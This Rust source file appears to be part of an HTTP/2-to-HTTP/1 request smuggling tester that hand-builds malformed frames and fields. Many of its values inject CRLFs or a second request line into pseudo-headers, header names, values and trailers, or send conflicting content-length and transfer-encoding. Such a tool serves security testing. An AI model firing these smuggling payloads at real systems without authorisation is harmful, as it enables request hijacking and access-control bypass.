//! Odd HTTP/2 requests on their way to an HTTP/1 origin: what would become another message there (RFC 9113 §8.2, §8.3,
//! §10.3; Kettle 2021, "HTTP/2: the sequel is always worse").
//!
//! Frames are written byte by byte, fields as literals without Huffman coding (RFC 7541 §6.2.2), so that anything can
//! be said.

use super::mutation::{Mutation, SMUGGLED};

/// Frame types and flags (RFC 9113 §6).
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Bytes that no name or value has (RFC 9113 §8.2.1), or that HTTP/1 reads as structure.
const ODD: &[u8] = b"\0\x01\t\n\r\x0b\x1f \"#,/:;?@\\\x7f\x80\xff";

/// A field: name and value.
type Field = (Vec<u8>, Vec<u8>);

/// Everything.
pub(super) fn all() -> Vec<Mutation> {
    [connection_fields, pseudo_values, pseudo_fields, lengths, names, values, trailers, frames]
        .into_iter()
        .flat_map(|class| class())
        .collect()
}

fn field(name: impl AsRef<[u8]>, value: impl AsRef<[u8]>) -> Field {
    (name.as_ref().to_vec(), value.as_ref().to_vec())
}

/// The four that say what is asked for, and who asks.
fn usual(method: &str) -> Vec<Field> {
    vec![
        field(":method", method),
        field(":scheme", "http"),
        field(":path", "/m/NNNN"),
        field(":authority", "origin.example"),
        field("x-marker", "NNNN"),
    ]
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn block(fields: &[Field]) -> Vec<u8> {
    let mut bytes = Vec::new();
    for (name, value) in fields {
        bytes.push(0);
        for text in [name, value] {
            length(&mut bytes, text.len());
            bytes.extend(text);
        }
    }
    bytes
}

/// An integer with a prefix of seven bits (RFC 7541 §5.1).
fn length(bytes: &mut Vec<u8>, mut length: usize) {
    if length < 127 {
        return bytes.push(length as u8);
    }
    bytes.push(127);
    length -= 127;
    while length >= 128 {
        bytes.push(0x80 | (length % 128) as u8);
        length /= 128;
    }
    bytes.push(length as u8);
}

/// A connection with these frames.
fn connection(frames: &[Vec<u8>]) -> Vec<u8> {
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), frame(SETTINGS, 0, 0, &[]), frames.concat()].concat()
}

/// One stream with these fields and this body.
fn stream(fields: &[Field], body: Option<&[u8]>) -> Vec<u8> {
    let flags = if body.is_some() { END_HEADERS } else { END_HEADERS | END_STREAM };
    let mut frames = vec![frame(HEADERS, flags, 1, &block(fields))];
    frames.extend(body.map(|body| frame(DATA, END_STREAM, 1, body)));
    connection(&frames)
}

/// Fields that belong to a connection of HTTP/1 (RFC 9113 §8.2.2).
fn connection_fields() -> Vec<Mutation> {
    let chunked = format!("0\r\n\r\n{SMUGGLED}");
    let mut all = Vec::new();
    for (name, value) in [
        ("connection", "close"),
        ("connection", "keep-alive"),
        ("connection", "content-length"),
        ("connection", "host"),
        ("keep-alive", "timeout=5"),
        ("proxy-connection", "keep-alive"),
        ("transfer-encoding", "chunked"),
        ("transfer-encoding", "identity"),
        ("transfer-encoding", "gzip, chunked"),
        ("transfer-encoding", ""),
        ("upgrade", "h2c"),
        ("upgrade", "websocket"),
        ("te", "chunked"),
        ("te", "trailers, chunked"),
        ("te", "trailers"),
        ("te", "gzip"),
        ("http2-settings", "AAMAAABkAAQAAP__"),
        ("host", "origin.example"),
        ("host", "other.example"),
        ("expect", "100-continue"),
        ("expect", "x"),
    ] {
        for body in [None, Some(chunked.as_bytes()), Some(SMUGGLED.as_bytes())] {
            for length in [None, Some("0"), Some("5")] {
                let mut fields = usual("POST");
                fields.push(field(name, value));
                fields.extend(length.map(|length| field("content-length", length)));
                all.push(Mutation::http2("HTTP/2: fields of a connection", stream(&fields, body)));
            }
        }
    }
    all
}

/// What stands in `:path`, `:authority`, `:method` and `:scheme`.
fn pseudo_values() -> Vec<Mutation> {
    let mut all = Vec::new();
    let mut add = |name: &str, value: &[u8]| {
        let mut fields = usual("GET");
        for (_, written) in fields.iter_mut().filter(|(found, _)| found == name.as_bytes()) {
            *written = value.to_vec();
        }
        all.push(Mutation::http2("HTTP/2: pseudo-header values", stream(&fields, None)));
    };
    for odd in ODD.iter().map(std::slice::from_ref) {
        for (name, before, after) in [
            (":path", "/m/NNNN", ""),
            (":path", "", "/m/NNNN"),
            (":path", "/m/", "NNNN"),
            (":authority", "origin.example", ""),
            (":authority", "", "origin.example"),
            (":authority", "origin", "example"),
            (":method", "GET", ""),
            (":method", "G", "ET"),
            (":scheme", "http", ""),
            (":scheme", "", "http"),
        ] {
            add(name, &[before.as_bytes(), odd, after.as_bytes()].concat());
        }
    }
    let injected = format!("/m/NNNN HTTP/1.1\r\nHost: origin.example\r\n\r\n{SMUGGLED}");
    let values = [
        injected.as_str(),
        "/m/NNNN HTTP/1.1",
        "",
        "*",
        "m",
        "?a",
        "//other.example/NNNN",
        "http://origin.example/m/NNNN",
        "http://other.example/m/NNNN",
        "/m/NNNN#x",
        "/m/NNNN\r\nX: y",
        "/m/NNNN\nX: y",
    ];
    values.iter().for_each(|value| add(":path", value.as_bytes()));
    for value in [
        "",
        "a@origin.example",
        "origin.example:",
        "origin.example:x",
        "origin.example/m",
        "a, b",
        "a\r\nX: y",
        "[::1]",
    ] {
        add(":authority", value.as_bytes());
    }
    for value in ["GET / HTTP/1.1\r\nX: y", "", "get", "CONNECT", "GET /smuggled HTTP/1.1", "PRI", "!#$%&'*+-.^_`|~"] {
        add(":method", value.as_bytes());
    }
    for value in ["https", "ftp", "", "http://other.example/?", "HTTP", "http\r\nX: y", "file"] {
        add(":scheme", value.as_bytes());
    }
    all
}

/// Pseudo-headers that are missing, repeated, late, or unknown (RFC 9113 §8.3).
fn pseudo_fields() -> Vec<Mutation> {
    let mut all = Vec::new();
    let mut add = |fields: &[Field]| all.push(Mutation::http2("HTTP/2: pseudo-header fields", stream(fields, None)));
    for index in 0..4 {
        let mut fields = usual("GET");
        let one = fields.remove(index);
        add(&fields);
        for host in ["origin.example", "other.example"] {
            let with_host = [fields.as_slice(), &[field("host", host)]].concat();
            add(&with_host);
        }
        fields.push(one.clone());
        add(&fields); // behind a field that is none
        for again in [one.1.as_slice(), b"/smuggled"] {
            let repeated = [usual("GET").as_slice(), &[field(&one.0, again)]].concat();
            add(&repeated);
            let repeated = [&[field(&one.0, again)], usual("GET").as_slice()].concat();
            add(&repeated);
        }
    }
    for name in [":status", ":protocol", ":foo", ":", ":Path", "::path"] {
        add(&[&[field(name, "200")], usual("GET").as_slice()].concat());
        add(&[usual("GET").as_slice(), &[field(name, "websocket")]].concat());
    }
    let tunnel = [field(":method", "CONNECT"), field(":authority", "origin.example:80")];
    add(&tunnel);
    add(&[]);
    all
}

/// `content-length` and the bytes that come (RFC 9113 §8.1.1).
fn lengths() -> Vec<Mutation> {
    let mut all = Vec::new();
    for length in [
        "0",
        "4",
        "5",
        "6",
        "00005",
        "+5",
        "-5",
        "5,5",
        "5 ",
        " 5",
        "0x5",
        "",
        "a",
        "5\r\n",
        "18446744073709551621",
        "99999999999999999999999",
    ] {
        for body in [None, Some(&b"hello"[..]), Some(b""), Some(SMUGGLED.as_bytes())] {
            let mut fields = usual("POST");
            fields.push(field("content-length", length));
            all.push(Mutation::http2("HTTP/2: content-length", stream(&fields, body)));
            fields.push(field("content-length", "5"));
            all.push(Mutation::http2("HTTP/2: content-length", stream(&fields, body)));
        }
    }
    all
}

/// Names that would be something else as a line of HTTP/1 (RFC 9113 §8.2.1).
fn names() -> Vec<Mutation> {
    let mut all = Vec::new();
    let mut add = |name: &[u8]| {
        let mut fields = usual("POST");
        fields.push(field(name, "chunked"));
        let body = format!("0\r\n\r\n{SMUGGLED}");
        all.push(Mutation::http2("HTTP/2: field names", stream(&fields, Some(body.as_bytes()))));
    };
    for odd in ODD.iter().map(std::slice::from_ref) {
        add(&[b"transfer-encoding", odd].concat());
        add(&[odd, b"transfer-encoding"].concat());
        add(&[b"transfer", odd, b"encoding"].concat());
    }
    for name in [
        "Transfer-Encoding",
        "TRANSFER-ENCODING",
        "Content-Length",
        "X-Marker",
        "foo: bar\r\ntransfer-encoding",
        "transfer_encoding",
        "transfer-encoding: chunked\r\nx",
        "",
        "x:",
        "x: y\r\n\r\nGET /smuggled/NNNN HTTP/1.1\r\nx",
        "Connection",
        "hOst",
    ] {
        add(name.as_bytes());
    }
    all
}

/// Values that would be several lines of HTTP/1.
fn values() -> Vec<Mutation> {
    let mut all = Vec::new();
    let mut add = |name: &str, value: &[u8]| {
        let mut fields = usual("POST");
        fields.push(field(name, value));
        let body = format!("0\r\n\r\n{SMUGGLED}");
        all.push(Mutation::http2("HTTP/2: field values", stream(&fields, Some(body.as_bytes()))));
    };
    for odd in ODD.iter().map(std::slice::from_ref) {
        for (before, after) in [("a", ""), ("", "a"), ("a", "b"), ("a", "transfer-encoding: chunked")] {
            add("x-a", &[before.as_bytes(), odd, after.as_bytes()].concat());
        }
    }
    for value in [
        "a\r\ntransfer-encoding: chunked",
        "a\ntransfer-encoding: chunked",
        "a\r\n\r\nGET /smuggled/NNNN HTTP/1.1\r\nHost: origin.example\r\n\r\n",
        "a\r\n content-length: 0",
        "a\r\nhost: other.example",
    ] {
        for name in ["x-a", "cookie", "user-agent", "content-type", "x-forwarded-for", "host"] {
            add(name, value.as_bytes());
        }
    }
    add("x-large", "a".repeat(16_000).as_bytes());
    all
}

/// Fields behind the body (RFC 9113 §8.1).
fn trailers() -> Vec<Mutation> {
    let mut all = Vec::new();
    for (name, value) in [
        ("x-t", "1"),
        ("content-length", "5"),
        ("transfer-encoding", "chunked"),
        ("host", "other.example"),
        (":path", "/smuggled"),
        (":method", "DELETE"),
        ("connection", "close"),
        ("authorization", "Basic dTpw"),
        ("x-request-id", "00000000000000000000000000000000"),
        ("x-a", "b\r\n\r\nGET /smuggled/NNNN HTTP/1.1\r\n\r\n"),
        ("x\r\ny", "z"),
        ("X-Upper", "1"),
        ("te", "chunked"),
    ] {
        for flags in [END_HEADERS | END_STREAM, END_HEADERS] {
            for length in [None, Some("5")] {
                let mut fields = usual("POST");
                fields.extend(length.map(|length| field("content-length", length)));
                let frames = [
                    frame(HEADERS, END_HEADERS, 1, &block(&fields)),
                    frame(DATA, 0, 1, b"hello"),
                    frame(HEADERS, flags, 1, &block(&[field(name, value)])),
                ];
                all.push(Mutation::http2("HTTP/2: trailers", connection(&frames)));
            }
        }
    }
    all
}

/// Frames in an order, or of a form, that breaks the message.
fn frames() -> Vec<Mutation> {
    let head = block(&usual("POST"));
    let (first, rest) = head.split_at(20);
    let hello = frame(DATA, END_STREAM, 1, b"hello");
    let cases = [
        vec![frame(HEADERS, 0, 1, first), frame(CONTINUATION, END_HEADERS, 1, rest), hello.clone()],
        vec![frame(HEADERS, 0, 1, first), hello.clone(), frame(CONTINUATION, END_HEADERS, 1, rest)],
        vec![frame(HEADERS, 0, 1, first), frame(CONTINUATION, END_HEADERS, 3, rest)],
        vec![frame(HEADERS, END_STREAM, 1, first), frame(CONTINUATION, END_HEADERS, 1, rest)],
        vec![frame(HEADERS, END_HEADERS, 1, &head), hello.clone(), hello.clone()],
        vec![frame(HEADERS, END_HEADERS | END_STREAM, 1, &head), hello.clone()],
        vec![hello.clone(), frame(HEADERS, END_HEADERS, 1, &head)],
        vec![frame(HEADERS, END_HEADERS, 2, &head), hello.clone()],
        vec![frame(HEADERS, END_HEADERS, 0, &head)],
        vec![frame(HEADERS, END_HEADERS, 1, &head), frame(DATA, END_STREAM, 3, b"hello")],
        vec![frame(HEADERS, END_HEADERS, 1, &head), frame(RST_STREAM, 0, 1, &[0, 0, 0, 8])],
        vec![frame(HEADERS, END_HEADERS, 1, &head), frame(DATA, 0, 1, b"hel"), frame(RST_STREAM, 0, 1, &[0, 0, 0, 8])],
        vec![frame(HEADERS, END_HEADERS, 1, &head)],
        vec![frame(HEADERS, END_HEADERS, 1, &head), frame(DATA, 0, 1, b"hel")],
        vec![frame(HEADERS, END_HEADERS, 1, &head), frame(DATA, 8 | END_STREAM, 1, b"\x09hello")],
        vec![frame(HEADERS, END_HEADERS | 8, 1, &[&[200], head.as_slice()].concat())],
        vec![frame(HEADERS, END_HEADERS, 1, &head), frame(DATA, 0, 1, &vec![b'x'; 17_000])],
        vec![frame(HEADERS, END_HEADERS, 1, &head[..head.len() - 1]), hello.clone()],
        vec![frame(HEADERS, END_HEADERS, 1, b"\xff\xff\xff\xff\xff"), hello.clone()],
        vec![frame(HEADERS, END_HEADERS, 1, b"\x3f\xe1\xff\xff\xff\x0f"), hello],
    ];
    cases.iter().map(|frames| Mutation::http2("HTTP/2: frames", connection(frames))).collect()
}
